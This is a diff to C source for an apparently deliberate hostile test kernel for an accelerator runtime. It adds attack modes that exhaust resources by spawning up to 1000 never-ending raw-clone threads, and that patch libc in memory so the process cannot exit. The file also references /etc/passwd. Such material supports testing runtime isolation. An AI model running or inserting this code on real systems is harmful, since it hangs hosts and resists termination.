@@ -47,7 +47,63 @@ static void take_limit(void (*handler)(int)) {
   }
 }
 
-static void attack(int64_t mode) {
+#if defined(__x86_64__)
+/* A thread that sleeps for ever and needs no stack; above 0 when it was made. */
+static long make_thread(const long* time) {
+  static char stack[64];
+  long result;
+  register long r10 __asm__("r10") = 0;
+  register long r8 __asm__("r8") = 0;
+  register const long* r12 __asm__("r12") = time;
+  __asm__ volatile("syscall\n"
+                   "test %%rax, %%rax\n"
+                   "jnz 2f\n"
+                   "1: mov $35, %%eax\n" /* nanosleep */
+                   "mov %%r12, %%rdi\n"
+                   "xor %%esi, %%esi\n"
+                   "syscall\n"
+                   "jmp 1b\n"
+                   "2:"
+                   : "=a"(result)
+                   : "a"(56), "D"(0x50f00 /* as pthread_create */), "S"(stack + sizeof stack),
+                     "d"(0), "r"(r10), "r"(r8), "r"(r12)
+                   : "rcx", "r11", "memory");
+  return result;
+}
+
+/* Makes every end of the process that libc's code has into a loop. The stack of this thread begins with an
+ * address in libc. */
+static void forget_how_to_end(void) {
+  static unsigned char pages[4096];
+  const unsigned char* self;
+  __asm__("mov %%fs:0, %0" : "=r"(self));
+  for (const unsigned long* at = (const unsigned long*)((unsigned long)self & ~7ul) - 1;
+       (unsigned long)at > (unsigned long)__builtin_frame_address(0); --at) {
+    unsigned char* page = (unsigned char*)(*at & ~4095ul);
+    if (*at < 65536 || *at >> 47 != 0 || call(27, (long)page, 4096, (long)pages, 0, 0) != 0)
+      continue; /* mincore: nothing there */
+    while (call(27, (long)(page - 4096), 4096, (long)pages, 0, 0) == 0)
+      page -= 4096;
+    for (; call(27, (long)page, 4096, (long)pages, 0, 0) == 0; page += 4096) {
+      if (call(10, (long)page, 4096, 7, 0, 0) != 0)
+        continue; /* mprotect */
+      for (unsigned i = 0; i + 80 < 4096; ++i) {
+        if (page[i] != 0xe7 || page[i + 1] != 0 || page[i + 2] != 0 || page[i + 3] != 0)
+          continue; /* the number of exit_group */
+        for (unsigned k = i + 4; k < i + 80; ++k) {
+          if (page[k] == 0x0f && page[k + 1] == 0x05)
+            page[k] = 0xeb, page[k + 1] = 0xfe;
+        }
+      }
+    }
+    return;
+  }
+}
+#endif
+
+/* What it gains is added to the results. */
+static int64_t attack(int64_t mode) {
+  int64_t gained = 0;
   static const char path[] = "/etc/passwd", program[] = "/bin/true";
   static const char* const argv[] = {program, 0};
   static char memory[256];
@@ -161,9 +217,19 @@ static void attack(int64_t mode) {
   case 40:
     take_limit(end_well);
     break; /* ends as if all were well */
+  case 41:
+    while (gained < 1000 && make_thread(long_time) > 0)
+      ++gained;
+    break; /* threads, which take memory and numbers of the whole machine */
+  case 42:
+    forget_how_to_end();
+    for (;;)
+      call(230, 1, 0, (long)long_time, 0, 0);
+    break; /* outlives its owner */
   default:
     break;
   }
+  return gained;
 }
 
 static int32_t attack_kernel(const accrt_kernel_environment_t* environment,
@@ -172,9 +238,9 @@ static int32_t attack_kernel(const accrt_kernel_environment_t* environment,
   (void)environment;
   (void)workgroup;
   const attack_params_t* p = dispatch->params;
-  attack(p->mode);
+  const int64_t gained = attack(p->mode);
   for (int64_t i = 0; i < p->n; i++)
-    p->y[i] = p->x[i] + p->mode;
+    p->y[i] = p->x[i] + p->mode + gained;
   return 0;
 }
 
@@ -210,7 +276,7 @@ accrt_kernel_pack_query(uint32_t max_abi, const accrt_kernel_environment_t* envi
     return 0;
   accrt_kernel_bind(environment);
 #ifdef AT_LOAD
-  attack(2);
+  (void)attack(2);
 #endif
   return &table;
 }
